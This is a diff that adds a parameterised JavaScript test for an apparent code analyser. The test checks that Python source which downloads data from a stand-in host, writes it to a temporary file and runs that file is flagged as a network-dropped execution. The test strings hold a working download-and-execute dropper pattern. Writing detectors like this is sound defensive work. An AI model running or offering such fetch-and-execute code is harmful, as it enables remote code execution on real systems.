@@ -35,3 +35,13 @@ test('the environment of a program is nothing that it is told', () => {
     ),
   ).toContain('envAll');
 });
+
+test.each([
+  ['os.write', 'os.write(handle, data)\nos.close(handle)'],
+  ['a file of the handle', 'os.fdopen(handle, "wb").write(data)'],
+  ['open', 'open(handle, "wb").write(data)'],
+])('what is put into a temporary file by its handle is what is started: %s', (_how, write) => {
+  const source = `import os, tempfile, urllib.request\ndata = urllib.request.urlopen('https://a.weir.test/x').read()\nhandle, path = tempfile.mkstemp()\n${write}\n`;
+  expect(told(`${source}os.execv(path, [path])`)).toContain('network+dropped');
+  expect(told(`${source}os.execv('/usr/bin/true', ['true'])`)).toBe('');
+});
